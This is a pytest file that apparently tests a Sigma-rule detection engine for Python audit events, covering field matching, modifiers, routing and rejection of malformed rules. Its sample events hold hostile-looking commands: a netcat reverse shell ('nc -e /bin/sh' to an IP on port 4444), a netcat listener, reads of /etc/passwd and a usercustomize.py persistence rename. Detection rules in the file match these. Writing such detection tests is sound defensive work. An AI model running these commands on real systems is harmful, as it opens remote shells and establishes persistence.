"""Edges of what conditions mean, by hand: case, nulls, wildcards, quotes, lists, routes."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from pythonaudit.detect.compile import compile_documents
from pythonaudit.detect.documents import parse_documents
from pythonaudit.detect.rules import Rule
from pythonaudit.errors import RuleError
from pythonaudit.query.connection import Connection
from pythonaudit.query.samples import open_samples
from tests.sigma_corpus import compile_all, compiled, matching, rule_text

EVENTS: list[dict[str, Any]] = [
    {"event": "open", "args": ["/etc/Passwd", "r", 524288], "user": "Root", "exe": "/usr/bin/ROOT", "pid": 7},
    {"event": "open", "args": ["a\\xb", "w", None], "exe": "root"},
    {"event": "OPEN", "fields": {"path": "/etc/passwd", "n": "0012", "list": ["a", None, 'say "hi"'], "e": ""}},
    {"event": 'said "hi" \\ there', "args": ['say "hi" \\ *'], "fields": {"big": 9007199254740993, "no": None}},
    {"event": "os.system", "args": [{"$bytes": "FOO=1 nc -e /bin/sh 192.0.2.1 4444"}], "exe": "/usr/bin/python3"},
    {"event": "subprocess.Popen", "args": ["/bin/sh", ["/bin/sh", "-c", "id; nc -l"], None, None]},
    {"event": "socket.connect", "args": [{"$type": "socket.socket"}, ["::ffff:10.1.2.3", 4444, 0, 0]]},
    {"event": "os.rename", "args": ["/tmp/x", "usercustomize.py", -1, -1], "cwd": "/srv"},
    {"event": "x", "stack": [{"file": "/a.py", "line": 3, "function": "f"}, {"file": "/b.py", "function": "g"}]},
    {"event": "É", "time": "2026-11-22T23:30:00Z", "context": {"k.l": "whole", "k": {"l": "way", "m": "way"}}},
]  # fmt: skip


@pytest.fixture(scope="module")
def events() -> Iterator[Connection]:
    numbered = [{"id": f"{1:032x}/0/{place}", **event} for place, event in enumerate(EVENTS)]
    with open_samples(numbered) as connection:
        yield connection


CASES: list[tuple[Any, set[int]]] = [
    ({"event": "open"}, {0, 1, 2}),
    ({"event|cased": "OPEN"}, {2}),
    ({"event": "é"}, {9}),
    ({"path|startswith": "/ETC/"}, {0}),  # of an application's event, a path is no path
    ({"fields.path": "/etc/PASSWD"}, {0, 2}),
    ({"path": "a\\\\x*"}, {1}),
    ({"path": "a\\x?"}, {1}),
    ({"path|contains": "\\"}, {1}),
    ({"fields.n": 12}, {2}),
    ({"fields.n": "12"}, set()),
    ({"fields.n|lt": 13}, {2}),
    ({"pid": "7"}, {0}),
    ({"fields.e": ""}, {2}),
    ({"fields.e": None}, set(range(10)) - {2}),
    ({"fields.no": None, "fields.big|exists": True}, {3}),
    ({"fields.no|exists": True}, set()),
    ({"fields.list": "a"}, {2}),
    ({"fields.list|contains|all": ["A", "SAY"]}, {2}),
    ({"fields.list": None}, set(range(10)) - {2}),
    ({"user|fieldref": "exe"}, set()),
    ({"exe|fieldref|endswith": "user"}, {0}),
    (['say "hi" \\\\ \\*'], {3}),
    (['"HI"'], {3}),
    ({"|cased": '"HI"'}, set()),
    (["hi* there"], {3}),
    ({"|re": "^said"}, {3}),
    ([4444], {4, 6}),
    ({"child.image|endswith": "/nc"}, {4, 5}),
    ({"child.image": "/bin/sh"}, {4, 5}),
    ({"child.command|startswith": "nc -e"}, {4}),
    ({"address|cidr": "10.0.0.0/8"}, {6}),
    ({"address|cidr": "::/0"}, set()),
    ({"port|gte": 4444}, {6}),
    ({"file.written|endswith": "/usercustomize.py"}, {7}),
    ({"file.written": "/srv/usercustomize.py"}, {7}),
    ({"file.removed": "/tmp/x"}, {7}),
    ({"file.opened": "/etc/passwd"}, {0}),
    ({"file.written": "*"}, {1, 7}),
    ({"stack": "/a.py:3 f"}, {8}),
    ({"stack": "/b.py: g"}, {8}),
    ({"stack.file": "/b.py", "stack.function": "f"}, {8}),
    ({"time|hour": 23}, {9}),
    ({"time|hour|gte": 23}, {9}),
    ({"time|day": 22}, {9}),
    ({"context.k.l": "whole"}, {9}),
    ({"context.k.m": "way"}, {9}),
    ({"context.k.l": "way"}, set()),
    ({"args.1": "r"}, {0}),
    ({"fields.path|expand": "/%letters%c/passwd"}, set()),
    ({"fields.list|expand": "%letters%"}, {2}),
]


def test_what_conditions_mean(events: Connection) -> None:
    rules = [compiled({"x": detection, "condition": "x"}) for detection, _ in CASES]
    found = matching(rules, events)
    wrong = [(case[0], some) for case, some in zip(CASES, found, strict=True) if some != case[1]]
    assert wrong == []


def test_not_is_the_contrary_also_of_what_is_not_there(events: Connection) -> None:
    rules = [compiled({"x": detection, "condition": "not x"}) for detection, _ in CASES]
    found = matching(rules, events)
    wrong = [case[0] for case, some in zip(CASES, found, strict=True) if some != set(range(10)) - case[1]]
    assert wrong == []


def linux(category: str, detection: dict[str, Any]) -> Rule:
    return compiled({"x": detection, "condition": "x"}, logsource={"product": "linux", "category": category})


def test_rules_of_others(events: Connection) -> None:
    rules = [
        linux("process_creation", {"Image|endswith": "/nc", "ParentImage|contains": "python"}),
        linux("process_creation", {"CommandLine|contains|all": ["nc", "-l"]}),
        linux("network_connection", {"DestinationPort": 4444, "DestinationIp|cidr": "10.0.0.0/8"}),
        linux("file_event", {"TargetFilename|endswith": "customize.py"}),
        linux("file_delete", {"TargetFilename|startswith": "/tmp/"}),
        linux("process_creation", {"Image|fieldref": "ParentImage"}),
    ]
    assert matching(rules, events) == [{4}, {5}, {6}, {7}, {7}, set()]
    assert rules[2].events == ("socket.connect", "socket.sendmsg", "socket.sendto")


@pytest.mark.parametrize(
    ("detection", "names"),
    [
        ({"x": {"event": "open"}, "condition": "x"}, ("open",)),
        ({"x": {"event": ["Open", "os.remove"]}, "condition": "x"}, ("open", "os.remove")),
        ({"x": {"event": "open"}, "y": {"event": ["open", "b"]}, "condition": "x or y"}, ("b", "open")),
        ({"x": {"event": "open"}, "y": {"event": ["open", "b"]}, "condition": "x and y"}, ("open",)),
        ({"x": {"event": "open"}, "y": {"path": "b"}, "condition": "x and not y"}, ("open",)),
        ({"x": {"event": "open"}, "y": {"path": "b"}, "condition": "x or y"}, None),
        ({"x": {"event": "open"}, "condition": "not x"}, None),
        ({"x": {"event|startswith": "open"}, "condition": "x"}, None),
        ({"x": {"event": "É"}, "condition": "x"}, None),
        ({"x": ["word"], "condition": "x"}, None),
    ],
)
def test_routes(detection: dict[str, Any], names: tuple[str, ...] | None) -> None:
    assert compiled(detection).events == names


def test_rules_of_one_scan_do_not_disturb_each_other(events: Connection) -> None:
    """However they are routed: alone each of them finds what it finds among the others."""
    parts: list[Any] = [["a"], {"pid": 7}, {"exe|contains": "ROOT"}]
    rules = [
        compiled({"x": {"event": name}, "y": more, "condition": "x and y"})
        for name in ("open", "OS.system")
        for more in parts
    ]
    rules.append(compiled({"x": {"event": "open"}, "condition": "not x"}))
    assert matching(rules, events) == [matching([rule], events)[0] for rule in rules]


REFUSED = [
    (b"x: [", 2, "did not find expected"),
    (b"title: a\ntitle: b", 2, "the key 'title' stands here twice"),
    (b"a: &x [1]\nb: *x", 2, "'*x' refers to another place"),
    (b"a: " + b"[" * 30 + b"]" * 30, 1, "nested more than 24 levels deep"),
    (b"- a", 1, "a rule is a mapping"),
    (b"title: \xff", None, "is no UTF-8"),
    (b"title: x\ndate: 2026-13-45\n", None, "month must be in 1..12"),
    (b"n: " + b"9" * 10_000, None, "digits"),
    (b"title: x", 1, "a rule needs 'logsource'"),
    (rule_text({"x": {"event": "a"}, "condition": "y"}), 1, "'y' not defined"),
    (rule_text({"x": {"event": "a"}, "condition": "1 of y*"}), 1, "doesn't match any detection"),
    (rule_text({"x": {"event": "a"}, "condition": "not " * 3000 + "x"}), 1, "at most 10,000 characters"),
    (rule_text({"x": {"event": "a"}, "condition": "x | count() > 5"}), 1, "deprecated"),
    (rule_text({"x": {"Hashes": "a"}, "condition": "x"}), 1, "'Hashes' is no field of this log source"),
    (rule_text({"x": {"path|re": "(?=a)b"}, "condition": "x"}), 1, "invalid"),
    (rule_text({"x": {"path|re": "((a{1000}){1000}){1000}"}, "condition": "x"}), 1, "invalid"),
    (
        rule_text({"x": {"path|expand": "%nobody%"}, "condition": "x"}),
        1,
        "%nobody% has no value in placeholders.yml",
    ),
    (rule_text({"x": {"path|nonsense": "a"}, "condition": "x"}), 1, "Unknown modifier"),
    (rule_text({"x": {"path": "\ud800"}, "condition": "x"}), 1, ""),
    (rule_text({"x": {'fields."a': "b"}, "condition": "x"}), 1, "is no field"),
    (rule_text({"x": {"exe|minute": 5}, "condition": "x"}), 1, "only 'time' is a moment"),
    (rule_text({"x": {"time|gte": 5}, "condition": "x"}), 1, "a moment is compared by its parts"),
    (rule_text({"x": {"exe|cidr": "10.0.0.0/99"}, "condition": "x"}), 1, "Invalid CIDR"),
    (rule_text({"x": {"event": "a"}, "condition": "x"}, logsource={"product": "windows"}), 1, "product: windows"),
    (rule_text({"x": {"event": "a"}, "condition": "x"}, filter={}), 1, "'filter' is not taken"),
    (rule_text({}), 1, "must contain at least one condition"),
    (rule_text("nonsense"), 1, ""),
    (
        rule_text({"x": {"event": "a"}, "condition": "x"}, level="awful"),
        1,
        "'awful' is not a valid Sigma rule level",
    ),
]


@pytest.mark.parametrize(
    ("text", "line", "reason"), REFUSED, ids=[reason[:30] or str(n) for n, (_, _, reason) in enumerate(REFUSED)]
)
def test_what_cannot_be_had_is_refused(text: bytes, line: int | None, reason: str) -> None:
    with pytest.raises(RuleError) as raised:
        _, refused = compile_documents(parse_documents(text, "rule.yml"), {})
        raise refused[0]
    said = str(raised.value)
    assert said.startswith(f"rule.yml:{line}: " if line else "rule.yml: ")
    assert reason in said
    assert "\n" not in said


def test_the_line_is_that_of_the_field() -> None:
    text = (
        b"title: x\nlogsource: {product: python, service: audit}\ndetection:\n  x:\n    event: a\n    Hashes: b\n"
    )
    text += b"  condition: x\n"
    _, refused = compile_documents(parse_documents(text, "a.yml"), {})
    assert [str(error) for error in refused] == ["a.yml:6: 'Hashes' is no field of this log source"]


def test_a_regular_expression_that_explodes_elsewhere_is_linear(events: Connection) -> None:
    text = "a" * 50_000 + "!"
    rule = compiled({"x": {"fields.t|re": "^(a+)+$"}, "condition": "x"})
    with open_samples([{"event": "x", "id": f"{1:032x}/0/0", "fields": {"t": text}}]) as connection:
        assert matching([rule], connection) == [set()]


def test_many_values_are_one_expression_that_can_be_parsed(events: Connection) -> None:
    many = [f"nothing{number}*x" for number in range(1000)]
    (rule,) = compile_all([rule_text({"x": {"path": [*many, "/etc/p*d"]}, "condition": "x"})])
    assert isinstance(rule, Rule)
    assert matching([rule], events) == [{0}]
